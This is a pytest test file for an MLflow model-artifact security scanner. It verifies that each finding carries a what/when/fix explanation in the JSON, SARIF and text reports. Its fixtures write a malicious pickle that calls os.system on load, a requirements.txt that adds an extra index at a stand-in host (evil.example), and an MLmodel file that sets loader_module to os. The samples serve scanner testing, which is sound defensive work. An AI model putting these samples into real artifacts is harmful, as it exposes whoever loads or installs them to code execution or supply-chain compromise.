"""Every finding carries a one-line explanation (what, when, fix) in JSON, SARIF and the text table.

Rule ids are collected from the scanner's own source, so a rule added without an explanation
fails here. Malicious samples are raw pickle opcode bytes and text files written by the test;
nothing is ever unpickled, imported or installed.
"""

from __future__ import annotations

import ast
import json
import pickle
import re
from pathlib import Path

import pytest

import mlflow_plugin.scanner as scanner_pkg
from mlflow_plugin.scanner import explain as ex
from mlflow_plugin.scanner.api import scan
from mlflow_plugin.scanner.render import render_text
from mlflow_plugin.scanner.report import Finding, Severity

SCANNER_DIR = Path(scanner_pkg.__file__).parent
RULE_RE = re.compile(r"^[a-z0-9]+(?:\.[a-z0-9][a-z0-9-]*)+$")
# calls whose string arguments include the rule id: ctx.report / Finder.add / Issue / _hit / bad /
# _GGUFError / _Rule (secret token formats) / _malformed helpers
RULE_CALLS = {"report", "add", "Issue", "_hit", "bad", "_GGUFError", "_Rule", "issue", "Finding"}
# families built from parts at run time (f"code.{kind}", scan.limit.*, the secret table, …)
DYNAMIC = {
    "code.shell",
    "code.network",
    "code.dynamic-code",
    "code.native",
    "code.remote-code",
    "code.deserialize",
    "scan.limit.ratio",
    "scan.limit.unpack",
    "pickle.unsafe-global",
    "pickle.unknown-global",
}
# families whose members may share the family's explanation
SHARED_FAMILIES = {"secret", "zip", "tar", "7z", "safetensors", "gguf", "scan.limit", "dataset.pii"}
# being added by other changes; explained already so they never show the generic text
CONCURRENT = {
    "dataset.pii",
    "dataset.pii.email",
    "pickle.kit-code",
    "mlmodel.missing-code",
    "mlmodel.remote-code",
}

# GLOBAL os.system, a harmless argument, TUPLE1, REDUCE, STOP (protocol 2)
EVIL = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00trueq\x00\x85q\x01Rq\x02."
# a class the allowlist does not know, instantiated with no arguments (NEWOBJ + BUILD)
CUSTOM = b"\x80\x02cmypkg.models\nMyModel\nq\x00)\x81q\x01}q\x02X\x01\x00\x00\x00aK\x01sb."


def _string_args(call: ast.Call) -> list[str]:
    out = []
    for a in [*call.args, *(k.value for k in call.keywords)]:
        for node in ast.walk(a):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                out.append(node.value)
    return out


def emitted_rules() -> set[str]:
    """Rule ids in the scanner source: string arguments of the calls that report findings, the
    values assigned to ``rule`` variables, and the first items of rule tables (pycode ``_CATS``)."""
    rules: set[str] = set()
    for py in sorted(SCANNER_DIR.glob("*.py")):
        if py.name in ("explain.py", "render.py", "report.py"):
            continue
        tree = ast.parse(py.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                fn = node.func
                name = fn.attr if isinstance(fn, ast.Attribute) else fn.id if isinstance(fn, ast.Name) else ""
                if name == "_Rule" and node.args:  # secret token formats: the rule is the first field
                    rules.update(s for s in _string_args(node)[:1] if RULE_RE.match(s))
                elif name in RULE_CALLS and not (name == "add" and len(node.args) < 3):  # not set.add
                    rules.update(s for s in _string_args(node) if RULE_RE.match(s))
            elif isinstance(node, ast.Assign) and any(
                isinstance(t, ast.Name) and t.id == "rule" for t in node.targets
            ):
                rules.update(
                    n.value
                    for n in ast.walk(node.value)
                    if isinstance(n, ast.Constant) and isinstance(n.value, str) and RULE_RE.match(n.value)
                )
            elif isinstance(node, ast.Tuple) and node.elts:
                first = node.elts[0]
                if (
                    isinstance(first, ast.Constant)
                    and isinstance(first.value, str)
                    and first.value.startswith("code.")
                    and RULE_RE.match(first.value)
                ):
                    rules.add(first.value)
    return rules


def test_the_collector_finds_the_rules_it_should() -> None:
    rules = emitted_rules()
    assert len(rules) > 120, len(rules)
    for r in (
        "pickle.embedded-code",
        "code.obfuscated-exec",
        "env.index-override",
        "mlmodel.loader-module",
        "secret.aws-access-key-id",
        "secret.url-password",
        "scan.limit.members",
        "zip.version-trick",
        "gguf.chat-template",
        "tf.risky-op",
        "7z.symlink",
        *DYNAMIC,
    ):
        assert r in rules, r


@pytest.mark.parametrize("rule", sorted(emitted_rules() | DYNAMIC | CONCURRENT))
def test_every_emitted_rule_has_a_real_explanation(rule: str) -> None:
    e, key = ex.lookup(rule)
    assert key, f"{rule} falls back to the generic explanation"
    # only families of many similar members may share one text; every other rule has its own
    assert key == rule or key in SHARED_FAMILIES, f"{rule} has no entry of its own (uses {key!r})"
    assert e != ex.GENERIC
    assert e.when in ex.WHENS
    assert e.what and e.fix and not e.what.endswith(".")
    assert "\n" not in e.line()


def test_table_entries_are_well_formed() -> None:
    for rule, (what, when, fix) in ex.RULES.items():
        assert RULE_RE.match(rule) or "." not in rule, rule
        assert when in ex.WHENS, rule
        assert what.strip() and fix.strip(), rule
        assert not what.endswith(".") and "\n" not in what + fix, rule


def test_when_matches_what_the_rule_means() -> None:
    when = {r: ex.explain_rule(r).when for r in ex.RULES}
    assert when["pickle.unsafe-global"] == "on load"
    assert when["mlmodel.loader-module"] == "on import"
    assert when["env.direct-url"] == when["env.index-override"] == "on install"
    assert when["secret.aws-access-key-id"] == when["dataset.pii"] == "when shared"
    assert when["zip.path-traversal"] == when["scan.limit.depth"] == "never runs"
    assert when["tf.risky-op"] == "on predict"


def test_unknown_rules_fall_back_to_family_then_generic() -> None:
    e, key = ex.lookup("secret.some-new-token")
    assert key == "secret" and e.when == "when shared"
    assert ex.lookup("scan.limit.new-limit")[1] == "scan.limit"
    assert ex.lookup("dataset.pii.passport")[1] == "dataset.pii"
    e, key = ex.lookup("brand.new-family")
    assert key == "" and e == ex.GENERIC


def test_parameterised_fix_names_the_evidence_global() -> None:
    f = Finding("m.pkl", Severity.HIGH, "pickle.unknown-global", "imports x", "acme.nets.TinyNet")
    fix = ex.explain(f).fix
    assert "`acme.nets.TinyNet`" in fix and "`[scan] allow_globals`" in fix and "code_paths" in fix
    # the aggregated "N more globals" finding has no single name to suggest
    more = Finding("m.pkl", Severity.HIGH, "pickle.unknown-global", "5 more", "...")
    assert "..." not in ex.explain(more).fix
    emb = Finding("m.pkl", Severity.MEDIUM, "pickle.embedded-code", "embedded class", "__main__.MyModel")
    e = ex.explain(emb)
    assert "models-from-code" in e.fix and "`__main__.MyModel`" in e.fix and "code_paths" in e.fix
    bad = Finding("m.pkl", Severity.CRITICAL, "pickle.embedded-code", "embedded", "__main__.f: os.system")
    assert ex.explain(bad).fix.startswith("do not load it")
    code_obj = Finding("m.pkl", Severity.HIGH, "pickle.embedded-code", "bare code object", "types.CodeType")
    assert "types.CodeType" not in ex.explain(code_obj).fix


@pytest.mark.parametrize(
    ("where", "when"),
    [
        ("when MLflow imports this module (load_model)", "on import"),
        ("in `predict()`, on every prediction", "on predict"),
        ("in `load_context()`, when the model is loaded", "on load"),
        ("only when the file is run as a script", "never runs"),
    ],
)
def test_code_findings_say_when_from_where_the_call_is(where: str, when: str) -> None:
    f = Finding(
        "model.py", Severity.HIGH, "code.network", f"model.py:3: opens a network connection: runs `x` {where}"
    )
    assert ex.explain(f).when == when


@pytest.fixture
def samples(tmp_path: Path) -> Path:
    d = tmp_path / "model"
    d.mkdir()
    (d / "model.pkl").write_bytes(EVIL)
    (d / "estimator.pkl").write_bytes(CUSTOM)
    (d / "requirements.txt").write_text("numpy==1.26.4\n--extra-index-url https://evil.example/simple\n")
    (d / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11.0\n"
    )
    return d


def test_real_scan_json_carries_explanations(samples: Path) -> None:
    rep = scan(str(samples)).to_json()
    by_rule = {f["rule"]: f for f in rep["findings"]}
    assert {
        "pickle.unsafe-global",
        "pickle.unknown-global",
        "env.index-override",
        "mlmodel.loader-module",
    } <= set(by_rule)
    for f in rep["findings"]:
        e = f["explanation"]
        assert set(e) == {"what", "when", "fix"} and all(e.values()), f
        assert e["when"] in ex.WHENS
        # the existing keys are unchanged
        assert {"path", "severity", "rule", "message", "evidence"} <= set(f)
    assert by_rule["pickle.unsafe-global"]["explanation"]["when"] == "on load"
    assert "`os.system`" in by_rule["pickle.unsafe-global"]["explanation"]["what"]
    assert by_rule["env.index-override"]["explanation"]["when"] == "on install"
    assert by_rule["mlmodel.loader-module"]["explanation"]["when"] == "on import"
    assert "do not load" in by_rule["mlmodel.loader-module"]["explanation"]["fix"]
    unknown = by_rule["pickle.unknown-global"]
    assert unknown["evidence"] == "mypkg.models.MyModel"
    assert "add `mypkg.models.MyModel` to `[scan] allow_globals`" in unknown["explanation"]["fix"]
    json.dumps(rep)  # still plain JSON


def test_real_scan_sarif_carries_help(samples: Path) -> None:
    report = scan(str(samples))
    doc = report.to_sarif()
    assert doc["version"] == "2.1.0"
    run = doc["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    for r in rules.values():
        assert r["help"]["text"] and r["fullDescription"]["text"]
        assert any(w in r["fullDescription"]["text"] for w in ex.WHENS)
    assert rules["env.index-override"]["help"]["text"] == ex.explain_rule("env.index-override").fix
    assert len(run["results"]) == len(report.findings)
    for f, res in zip(report.sorted_findings(), run["results"], strict=True):
        assert res["ruleId"] == f.rule and f.rule in rules
        assert res["message"]["text"].startswith(f.message)
        assert res["message"]["text"].endswith(f"Fix: {f.explain().fix}")
    unknown = next(r for r in run["results"] if r["ruleId"] == "pickle.unknown-global")
    assert unknown["message"]["text"].endswith(
        "if you wrote `mypkg.models.MyModel`, ship its module in code_paths or add `mypkg.models.MyModel` "
        "to `[scan] allow_globals`; otherwise do not load this file"
    )


def test_render_text_puts_the_fix_under_each_finding(samples: Path) -> None:
    report = scan(str(samples))
    lines = render_text(report)
    assert lines[0].startswith(f"Scanned {samples}: 4 files")
    assert lines[1].startswith("SEVERITY")
    assert lines[-1].startswith(f"{len(report.findings)} findings: ")
    body = lines[2:-1]
    assert len(body) == 2 * len(report.findings)
    for finding, row, expl in zip(report.sorted_findings(), body[::2], body[1::2], strict=True):
        assert finding.rule in row and not row.startswith(" ")
        assert expl == "  → " + finding.explain().line()
        assert ": " in expl and ". Fix: " in expl
    assert any("add `mypkg.models.MyModel` to `[scan] allow_globals`" in x for x in body)
    assert any(x.startswith("  → on install: ") for x in body)


def test_render_text_of_a_clean_scan(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps({"weights": [1.0, 2.0], "classes": ["a", "b"]}))
    lines = render_text(scan(str(tmp_path)))
    assert lines == [f"Scanned {tmp_path}: 1 files (1 pickle)", "No findings."]
